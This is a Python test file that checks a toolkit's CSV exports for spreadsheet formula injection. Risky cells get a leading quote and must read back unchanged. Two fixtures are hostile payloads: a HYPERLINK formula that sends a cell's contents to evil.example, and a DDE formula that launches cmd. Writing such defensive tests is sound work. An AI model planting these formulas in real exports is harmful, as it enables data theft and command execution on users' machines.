"""No CSV the toolkit writes holds a cell a spreadsheet would run (OWASP's CSV injection): a text
cell beginning with =, +, -, @, tab or carriage return is written with a leading single quote,
and the toolkit reads its own CSVs back to the very values written (issue 39, item 3)."""

from __future__ import annotations

import csv
import io
import json

import pandas as pd
from avarium.analysis.synthetic import Plan, synthetic_run
from avarium.reports import pages
from avarium.simulator.cards.csv_cards import csv_cards
from avarium.simulator.cards.export import to_csv
from avarium.simulator.cards.loader import build_set, load_cards
from avarium.simulator.safetext import (
    FORMULA_START,
    csv_cell,
    csv_frame,
    csv_text,
    read_csv_frame,
)
from hypothesis import given, settings
from hypothesis import strategies as st

from tests.hostile_input.helpers import invoke

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
CALC = "=cmd|' /C calc'!A0"
# Text a card may hold: no control character (validate refuses them), none at either end (the
# loader strips values), fewer than 60 characters (a name's limit) to leave room for a prefix.
NAMES = st.text(
    st.characters(blacklist_categories=("Cc", "Cs")),
    min_size=1,
    max_size=59,
).filter(lambda s: s.strip() == s and s)
FORMULAS = st.sampled_from(FORMULA_START).flatmap(
    lambda first: st.text(max_size=20).map(lambda rest: first + rest)
)


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def runs_as_a_formula(cell: str) -> bool:
    """What a spreadsheet runs: a formula start, unless the whole cell is a plain number."""
    try:
        float(cell)
        return False
    except ValueError:
        return cell[:1] in FORMULA_START


def named(name: str):
    """The bundled set with Touka named `name`, as `--set` would name her."""
    return load_cards(None, [f"hatsurugi_touka.name={json.dumps(name, ensure_ascii=False)}"])


def test_a_formula_in_an_idol_name_is_neutralised_in_the_card_export():
    for name in (HYPERLINK, CALC, "@SUM(1+1)", "+1+1", "-1+1"):
        rows = cells(to_csv(named(name)))
        touka = next(row for row in rows if row[rows[0].index("id")] == "hatsurugi_touka")
        assert touka[rows[0].index("name")] == "'" + name
        assert not any(runs_as_a_formula(cell) for row in rows for cell in row)


def test_a_plain_negative_number_stays_a_number():
    assert csv_cell("-3") == "-3" and csv_cell("-0.25") == "-0.25" and csv_cell(-3) == -3
    assert csv_cell("-3 merit") == "'-3 merit"


@settings(max_examples=300)
@given(st.one_of(st.text(), FORMULAS, FORMULAS.map(lambda s: "'" + s)))
def test_any_text_reads_back_from_its_cell_as_written(text):
    cell = csv_cell(text)
    assert csv_text(cell) == text
    assert not runs_as_a_formula(cell)


@settings(max_examples=60, deadline=None)
@given(name=st.one_of(NAMES, st.sampled_from("=+-@'").flatmap(lambda c: NAMES.map(c.__add__))))
def test_any_name_round_trips_through_a_card_export_and_import(name):
    text = to_csv(named(name))
    assert not any(runs_as_a_formula(cell) for row in cells(text) for cell in row)
    again = build_set(csv_cards(text, "cards.csv", problems := []), problems)
    assert again.find("hatsurugi_touka").name == name
    assert to_csv(again) == text  # so a CSV export is still recognised as the toolkit's own


def test_a_formula_in_an_idol_name_is_neutralised_in_every_report_csv(tmp_path, monkeypatch):
    run = synthetic_run(tmp_path / "run", 3_000, Plan(bot="heuristic.balanced"), seed=1)
    names = {"hatsurugi_touka": HYPERLINK, "kumara_raj": CALC}
    monkeypatch.setattr(pages, "display_names", lambda *a, **k: dict(names))
    result = invoke("report", run, "--no-charts")  # the tables alone
    assert result.exit_code == 0, result.output
    tables = sorted((run / "report" / "tables").glob("*.csv"))
    assert tables
    for path in tables:
        for row in cells(path.read_text(encoding="utf-8")):
            assert not any(runs_as_a_formula(cell) for cell in row), (path.name, row)
    # The names are in the tables, quoted, and read back as they were.
    idols = read_csv_frame(run / "report" / "tables" / "idol_win_rates.csv")
    assert set(names.values()) <= set(idols.astype(str).stack())


def test_a_table_reads_back_with_its_values_and_types(tmp_path):
    frame = pd.DataFrame(
        {"idol": [HYPERLINK, "-5", "plain", "'=x"], "rate": [-0.5, 0.25, 1.0, -3.0]}
    )
    path = tmp_path / "t.csv"
    path.write_text(csv_frame(frame), encoding="utf-8")
    pd.testing.assert_frame_equal(read_csv_frame(path), frame)
